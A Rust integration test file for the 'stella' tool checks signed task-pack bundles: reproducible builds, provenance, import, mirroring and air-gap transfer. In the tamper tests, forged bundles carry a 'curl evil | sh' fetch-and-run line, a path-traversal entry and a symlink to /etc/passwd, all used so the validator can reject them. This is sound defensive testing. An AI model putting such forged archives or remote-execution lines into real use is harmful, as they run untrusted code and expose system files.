//! Packs from elsewhere: signed bundles made twice alike, hostile or untrusted ones refused,
//! imported packs that run and name their publisher, edited ones that no longer plan, mirrors
//! of another repository at a tag, and a bundle carried across an air gap.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use base64::Engine as _;

use crate::support::{Repo, Stella, keygen, run_path, stella};

/// A pack directory outside any repository, with a script beside its manifest.
const PACK: &str = "apiVersion: stella/v1\nkind: TaskPack\nmetadata: { name: greet, version: 2.1.0 }\nspec:\n  steps:\n    - id: hello\n      run: { uses: builtin:exec, with: { argv: [./hello.sh] } }\n";

struct Publisher {
    dir: tempfile::TempDir,
    public: String,
}

impl Publisher {
    /// A publisher's workspace: the key `alice`, and the pack `greet`.
    fn new() -> Publisher {
        let dir = tempfile::tempdir().unwrap();
        let public = keygen(dir.path(), "alice");
        let p = Publisher { dir, public };
        std::fs::create_dir_all(p.pack()).unwrap();
        std::fs::write(p.pack().join("pack.yaml"), PACK).unwrap();
        std::fs::write(p.pack().join("hello.sh"), "#!/bin/sh\necho hello from greet\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(p.pack().join("hello.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    }

    fn pack(&self) -> PathBuf {
        self.dir.path().join("greet")
    }

    fn key(&self) -> PathBuf {
        self.dir.path().join("alice")
    }

    /// `stella pack bundle` of the pack into `name`.
    fn bundle(&self, name: &str) -> PathBuf {
        let out = self.dir.path().join(name);
        run(stella()
            .args(["pack", "bundle"])
            .arg(self.pack())
            .arg("--key")
            .arg(self.key())
            .arg("-o")
            .arg(&out))
        .ok();
        out
    }

    /// The allowed_signers line that trusts this publisher for packs.
    fn trust_line(&self, principal: &str) -> String {
        format!("{principal} namespaces=\"stella-pack\" {}\n", self.public)
    }
}

fn run(cmd: &mut Command) -> Stella {
    Stella(cmd.output().unwrap())
}

fn validate(bundle: &Path, signers: Option<&Path>) -> Stella {
    let mut cmd = stella();
    cmd.args(["pack", "validate", "--bundle"]).arg(bundle);
    if let Some(s) = signers {
        cmd.arg("--allowed-signers").arg(s);
    }
    run(&mut cmd)
}

fn refused_with(out: &Stella, code: &str) {
    assert_eq!(out.code(), Some(2), "{}", out.stderr());
    assert!(out.stderr().contains(&format!("error[{code}]")), "{}", out.stderr());
}

/// The bundle's entries, as (path, bytes, mode).
fn entries(bundle: &Path) -> Vec<(String, Vec<u8>, u32)> {
    let bytes = std::fs::read(bundle).unwrap();
    let mut a = tar::Archive::new(flate2::read::GzDecoder::new(bytes.as_slice()));
    a.entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let path = e.path().unwrap().to_string_lossy().into_owned();
            let mode = e.header().mode().unwrap();
            let mut b = Vec::new();
            e.read_to_end(&mut b).unwrap();
            (path, b, mode)
        })
        .collect()
}

/// A bundle of `items` written as given, the tar crate's own path checks bypassed.
fn forge(to: &Path, items: &[(String, Vec<u8>, u32)], symlink: Option<&str>) {
    let gz = flate2::GzBuilder::new().write(Vec::new(), flate2::Compression::fast());
    let mut t = tar::Builder::new(gz);
    for (path, bytes, mode) in items {
        let mut h = tar::Header::new_gnu();
        h.as_gnu_mut().unwrap().name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_size(bytes.len() as u64);
        h.set_mode(*mode);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_cksum();
        t.append(&h, bytes.as_slice()).unwrap();
    }
    if let Some(name) = symlink {
        let mut h = tar::Header::new_gnu();
        h.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name.as_bytes());
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_link_name("/etc/passwd").unwrap();
        h.set_size(0);
        h.set_cksum();
        t.append(&h, &b""[..]).unwrap();
    }
    std::fs::write(to, t.into_inner().unwrap().finish().unwrap()).unwrap();
}

#[test]
fn a_bundle_made_twice_is_byte_identical_and_names_its_publisher() {
    let p = Publisher::new();
    let (a, b) = (p.bundle("a.stellapack"), p.bundle("b.stellapack"));
    assert_eq!(std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
    let names: Vec<String> = entries(&a).into_iter().map(|(n, _, _)| n).collect();
    assert_eq!(names, ["pack.dsse.json", "pack/hello.sh", "pack/pack.yaml"]);
    // Without allowed_signers the publisher is its key's fingerprint; with them, its principal.
    let out = validate(&a, None).ok();
    assert!(out.stdout().contains("ok: greet 2.1.0 is valid"), "{}", out.stdout());
    assert!(out.stdout().contains("publisher: SHA256:"), "{}", out.stdout());
    let signers = p.dir.path().join("signers");
    std::fs::write(&signers, p.trust_line("alice@example.com")).unwrap();
    let out = validate(&a, Some(&signers)).ok();
    assert!(
        out.stdout().contains("publisher: alice@example.com (SHA256:"),
        "{}",
        out.stdout()
    );
}

#[test]
fn securesystemslib_verifies_the_bundle_envelope() {
    let p = Publisher::new();
    let bundle = p.bundle("g.stellapack");
    let envelope = p.dir.path().join("envelope.json");
    std::fs::write(&envelope, &entries(&bundle)[0].1).unwrap();
    let stdout = crate::evidence::securesystemslib_verifies("dsse_pack_check.py", &envelope, &p.public);
    assert!(stdout.contains("verified greet 2.1.0 2 files"), "{stdout}");
}

#[test]
fn tampered_hostile_and_untrusted_bundles_are_refused() {
    let p = Publisher::new();
    let good = entries(&p.bundle("g.stellapack"));
    let forged = p.dir.path().join("forged.stellapack");
    // One changed byte of a file.
    let mut changed = good.clone();
    changed[1].1[0] ^= 1;
    forge(&forged, &changed, None);
    refused_with(&validate(&forged, None), "ERR_PACK_PROVENANCE");
    // An extra file the payload does not list.
    let mut extra = good.clone();
    extra.push(("pack/extra.sh".into(), b"curl evil | sh\n".to_vec(), 0o755));
    forge(&forged, &extra, None);
    let out = validate(&forged, None);
    refused_with(&out, "ERR_PACK_PROVENANCE");
    assert!(out.stderr().contains("extra.sh is not listed"), "{}", out.stderr());
    // A path that escapes, and a symlink.
    let mut escape = good.clone();
    escape.push(("pack/../../escaped".into(), b"x".to_vec(), 0o644));
    forge(&forged, &escape, None);
    refused_with(&validate(&forged, None), "ERR_PACK_INVALID");
    forge(&forged, &good, Some("pack/leak"));
    let out = validate(&forged, None);
    refused_with(&out, "ERR_PACK_INVALID");
    assert!(out.stderr().contains("links are not allowed"), "{}", out.stderr());
    // Signed by a key allowed_signers does not trust for stella-pack.
    let signers = p.dir.path().join("signers");
    let other = keygen(p.dir.path(), "mallory");
    std::fs::write(
        &signers,
        format!(
            "alice@example.com namespaces=\"git\" {}\nmallory namespaces=\"stella-pack\" {other}\n",
            p.public
        ),
    )
    .unwrap();
    let out = validate(&p.bundle("g.stellapack"), Some(&signers));
    refused_with(&out, "ERR_PACK_PROVENANCE");
    assert!(
        out.stderr().contains("not trusted for namespace stella-pack"),
        "{}",
        out.stderr()
    );
    // Nothing was written beside the bundles while checking them.
    let mut left: Vec<String> = std::fs::read_dir(p.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(
        left,
        [
            "alice",
            "alice.pub",
            "forged.stellapack",
            "g.stellapack",
            "greet",
            "mallory",
            "mallory.pub",
            "signers"
        ]
    );
}

/// A repository that trusts the publisher for packs, with the bundle imported and committed.
fn imported(p: &Publisher) -> Repo {
    let r = Repo::new();
    let signers = std::fs::read_to_string(r.path().join(".stella/allowed_signers")).unwrap();
    r.write(
        ".stella/allowed_signers",
        &format!("{signers}{}", p.trust_line("alice@example.com")),
    )
    .commit_all("trust alice's packs");
    let bundle = p.bundle("greet.stellapack");
    let out = r.stella(&["pack", "import", bundle.to_str().unwrap()]).ok();
    assert!(
        out.stderr().contains("published by alice@example.com"),
        "{}",
        out.stderr()
    );
    assert!(!r.status_porcelain().is_empty(), "import commits nothing");
    r.commit_all("import greet");
    r
}

#[test]
fn an_imported_pack_runs_and_its_attestation_names_the_publisher() {
    let p = Publisher::new();
    let r = imported(&p);
    let provenance: serde_json::Value =
        serde_json::from_str(&r.at_head("packs/greet/.provenance.json").unwrap()).unwrap();
    assert_eq!(provenance["publisher"], "alice@example.com");
    let bundle_sha = stella_engine::pack::sha256_hex(&std::fs::read(p.dir.path().join("greet.stellapack")).unwrap());
    assert_eq!(provenance["bundleSha256"], bundle_sha.as_str());
    let plan = r.stella(&["pack", "plan", "packs/greet"]).ok();
    assert!(
        plan.stdout().contains("publisher: alice@example.com (SHA256:"),
        "{}",
        plan.stdout()
    );
    assert!(
        plan.stdout().contains(&format!("bundle:    sha256 {bundle_sha}")),
        "{}",
        plan.stdout()
    );
    r.request("r1", "greet", "{}\n");
    r.daemon_once().ok();
    assert_eq!(r.state("r1"), "succeeded");
    let att = r
        .at_head(&format!("{}/evidence/attestation.dsse.json", run_path("r1")))
        .unwrap();
    let env: serde_json::Value = serde_json::from_str(&att).unwrap();
    let body = base64::engine::general_purpose::STANDARD
        .decode(env["payload"].as_str().unwrap())
        .unwrap();
    let statement: serde_json::Value = serde_json::from_slice(&body).unwrap();
    let prov = &statement["predicate"]["pack"]["provenance"];
    assert_eq!(prov["publisher"], "alice@example.com");
    assert_eq!(prov["bundleSha256"], bundle_sha.as_str());
    r.stella(&["evidence", "verify", "r1"]).ok();
    r.stella(&["ledger", "verify"]).ok();
    // Importing the same bundle again is fine; another pack of that name needs --replace.
    let again = p.bundle("greet.stellapack");
    r.stella(&["pack", "import", again.to_str().unwrap()]).ok();
    std::fs::write(p.pack().join("hello.sh"), "#!/bin/sh\necho v2\n").unwrap();
    let v2 = p.bundle("greet-v2.stellapack");
    let out = r.stella(&["pack", "import", v2.to_str().unwrap()]);
    refused_with(&out, "ERR_USAGE");
    assert!(out.stderr().contains("--replace"), "{}", out.stderr());
    r.stella(&["pack", "import", v2.to_str().unwrap(), "--replace"]).ok();
    assert!(
        std::fs::read_to_string(r.path().join("packs/greet/hello.sh"))
            .unwrap()
            .contains("v2")
    );
}

#[test]
fn an_untrusted_publisher_is_not_imported() {
    let p = Publisher::new();
    let r = Repo::new();
    let bundle = p.bundle("greet.stellapack");
    let out = r.stella(&["pack", "import", bundle.to_str().unwrap()]);
    refused_with(&out, "ERR_PACK_PROVENANCE");
    assert!(!r.path().join("packs/greet").exists());
    assert_eq!(r.status_porcelain(), "");
}

#[test]
fn a_pack_edited_after_import_fails_to_plan_and_to_run() {
    let p = Publisher::new();
    let r = imported(&p);
    let doctor = r.stella(&["doctor", "--check", "check.packs.provenance"]).ok();
    assert!(
        doctor
            .stdout()
            .contains("ok   packs/greet: published by alice@example.com (SHA256:"),
        "{}",
        doctor.stdout()
    );
    r.write("packs/greet/hello.sh", "#!/bin/sh\necho pwned\n");
    let doctor = r.stella(&["doctor", "--check", "check.packs.provenance"]);
    assert_eq!(doctor.code(), Some(1), "{}", doctor.stdout());
    assert!(
        doctor
            .stdout()
            .contains("FAIL packs/greet/.provenance.json: provenance does not verify: hello.sh"),
        "{}",
        doctor.stdout()
    );
    let out = r.stella(&["pack", "plan", "packs/greet"]);
    refused_with(&out, "ERR_PACK_PROVENANCE");
    assert!(
        out.stderr().contains("hello.sh does not match its signed sha256"),
        "{}",
        out.stderr()
    );
    // A request made while the pack was intact, then the edit committed: the runner refuses
    // before any step.
    r.git(&["checkout", "-q", "--", "packs/greet/hello.sh"]);
    r.request("r1", "greet", "{}\n");
    r.write("packs/greet/hello.sh", "#!/bin/sh\necho pwned\n")
        .commit_all("edit the imported pack");
    r.daemon_once();
    let show = r.show("r1");
    assert_eq!(show["state"], "failed", "{show}");
    assert_eq!(show["code"], "ERR_PACK_PROVENANCE", "{show}");
    assert!(
        !r.events("r1").iter().any(|e| e["type"] == "step.started"),
        "no step ran"
    );
    // Intact again, but its publisher no longer trusted: the same refusal.
    r.git(&["checkout", "-q", ":/import greet", "--", "packs/greet/hello.sh"]);
    r.stella(&["pack", "plan", "packs/greet"]).ok();
    let signers = std::fs::read_to_string(r.path().join(".stella/allowed_signers")).unwrap();
    let kept: String = signers
        .lines()
        .filter(|l| !l.contains("stella-pack"))
        .map(|l| format!("{l}\n"))
        .collect();
    r.write(".stella/allowed_signers", &kept)
        .commit_all("stop trusting alice's packs");
    let out = r.stella(&["pack", "plan", "packs/greet"]);
    refused_with(&out, "ERR_PACK_PROVENANCE");
    assert!(out.stderr().contains("no longer trusted"), "{}", out.stderr());
}

/// A plain git repository holding the publisher's pack at `packs/greet`, tagged `v1` (an
/// annotated tag), then changed on `main`.
fn source_repo(p: &Publisher) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| crate::support::git_in(dir.path(), args).trim().to_string();
    git(&["init", "-q", "-b", "main"]);
    std::fs::create_dir_all(dir.path().join("packs")).unwrap();
    let copied = Command::new("cp")
        .arg("-a")
        .arg(p.pack())
        .arg(dir.path().join("packs/greet"))
        .status()
        .unwrap();
    assert!(copied.success());
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "greet 2.1.0"]);
    git(&["tag", "-a", "v1", "-m", "release v1"]);
    let tagged = git(&["rev-parse", "v1^{commit}"]);
    std::fs::write(dir.path().join("packs/greet/hello.sh"), "#!/bin/sh\necho unreleased\n").unwrap();
    git(&["commit", "-q", "-am", "work in progress"]);
    (dir, tagged)
}

fn mirror(p: &Publisher, cache: &Path, url: &str, reference: &str, out: &Path) -> Stella {
    run(stella()
        .env("STELLA_PACK_CACHE", cache)
        .args([
            "pack",
            "mirror",
            "pull",
            url,
            "--ref",
            reference,
            "--path",
            "packs/greet",
            "--key",
        ])
        .arg(p.key())
        .arg("-o")
        .arg(out))
}

#[test]
fn a_mirror_pull_at_a_tag_records_its_commit_and_works_offline_from_the_cache() {
    let p = Publisher::new();
    let (src, tagged) = source_repo(&p);
    let cache = p.dir.path().join("cache");
    let url = format!("file://{}", src.path().display());
    let first = p.dir.path().join("m1.stellapack");
    let out = mirror(&p, &cache, &url, "v1", &first).ok();
    assert!(out.stderr().contains(&format!("at {tagged}")), "{}", out.stderr());
    let shown = validate(&first, None).ok();
    assert!(
        shown
            .stdout()
            .contains(&format!("source:    {url} v1 at {tagged} (packs/greet)")),
        "{}",
        shown.stdout()
    );
    let envelope: serde_json::Value = serde_json::from_slice(&entries(&first)[0].1).unwrap();
    let payload: serde_json::Value = serde_json::from_slice(
        &base64::engine::general_purpose::STANDARD
            .decode(envelope["payload"].as_str().unwrap())
            .unwrap(),
    )
    .unwrap();
    assert_eq!(payload["source"]["commit"], tagged.as_str());
    assert_eq!(payload["source"]["ref"], "v1");
    // The tagged content, not main's.
    let script = entries(&first)
        .into_iter()
        .find(|(n, _, _)| n == "pack/hello.sh")
        .unwrap();
    assert!(String::from_utf8_lossy(&script.1).contains("hello from greet"));
    assert_eq!(script.2, 0o755);

    // The source is gone: the cache answers, with the same bytes.
    let moved = p.dir.path().join("gone");
    std::fs::rename(src.path(), &moved).unwrap();
    let second = p.dir.path().join("m2.stellapack");
    let out = mirror(&p, &cache, &url, "v1", &second).ok();
    assert!(out.stderr().contains("used the cache"), "{}", out.stderr());
    assert_eq!(std::fs::read(&first).unwrap(), std::fs::read(&second).unwrap());
    // A commit the cache holds needs no fetch at all.
    let out = mirror(&p, &cache, &url, &tagged, &second).ok();
    assert!(
        out.stderr().contains("(from the cache)") && !out.stderr().contains("warning"),
        "{}",
        out.stderr()
    );
    // A ref the cache never saw, offline: refused, saying why.
    let out = mirror(&p, &cache, &url, "v2", &second);
    assert_eq!(out.code(), Some(2), "{}", out.stderr());
    assert!(
        out.stderr().contains("the cache does not know `v2`"),
        "{}",
        out.stderr()
    );
    std::fs::rename(&moved, src.path()).unwrap();

    // Imported where the mirror is trusted, the plan names where the pack came from.
    let r = Repo::new();
    let signers = std::fs::read_to_string(r.path().join(".stella/allowed_signers")).unwrap();
    r.write(
        ".stella/allowed_signers",
        &format!("{signers}{}", p.trust_line("mirror@example.com")),
    )
    .commit_all("trust the mirror");
    r.stella(&["pack", "import", first.to_str().unwrap()]).ok();
    let plan = r.stella(&["pack", "plan", "packs/greet"]).ok();
    assert!(
        plan.stdout().contains(&format!("source:    {url} v1 at {tagged}")),
        "{}",
        plan.stdout()
    );
}

#[test]
fn a_bundle_crosses_an_air_gap_with_the_trust_to_run_it() {
    let p = Publisher::new();
    let online = Repo::new();
    // The sealed site is a copy of the online repository with the same runner key.
    let sealed_dir = tempfile::tempdir().unwrap();
    let cloned = Command::new("git")
        .args(["clone", "-q"])
        .arg(online.path())
        .arg(sealed_dir.path().join("r"))
        .status()
        .unwrap();
    assert!(cloned.success());
    let sealed = Repo { dir: sealed_dir };
    let inner = sealed.path().join("r");
    for e in std::fs::read_dir(&inner).unwrap() {
        let e = e.unwrap();
        std::fs::rename(e.path(), sealed.path().join(e.file_name())).unwrap();
    }
    std::fs::remove_dir(&inner).unwrap();
    let key_dir = sealed.path().join(".git/stella");
    std::fs::create_dir_all(&key_dir).unwrap();
    for f in ["runner_ed25519", "runner_ed25519.pub"] {
        std::fs::copy(online.path().join(".git/stella").join(f), key_dir.join(f)).unwrap();
    }
    // Online: trust the publisher, and carry that across with `stella sync`.
    let signers = std::fs::read_to_string(online.path().join(".stella/allowed_signers")).unwrap();
    online
        .write(
            ".stella/allowed_signers",
            &format!("{signers}{}", p.trust_line("alice@example.com")),
        )
        .commit_all("trust alice's packs");
    let git_bundle = online.outside("to-sealed.bundle");
    online
        .stella(&["sync", "export", "-o", git_bundle.to_str().unwrap(), "--to", "sealed"])
        .ok();
    sealed.stella(&["sync", "import", git_bundle.to_str().unwrap()]).ok();
    // The pack bundle travels on the same media; the sealed site imports and runs it.
    let pack_bundle = p.bundle("greet.stellapack");
    sealed
        .stella(&["pack", "validate", "--bundle", pack_bundle.to_str().unwrap()])
        .ok();
    sealed.stella(&["pack", "import", pack_bundle.to_str().unwrap()]).ok();
    sealed.commit_all("import greet from removable media");
    sealed.request("r1", "greet", "{}\n");
    sealed.daemon_once().ok();
    assert_eq!(sealed.state("r1"), "succeeded");
    let logs = sealed.stella(&["runs", "logs", "r1"]).ok();
    assert!(logs.stdout().contains("hello from greet"), "{}", logs.stdout());
    sealed.stella(&["ledger", "verify"]).ok();
}
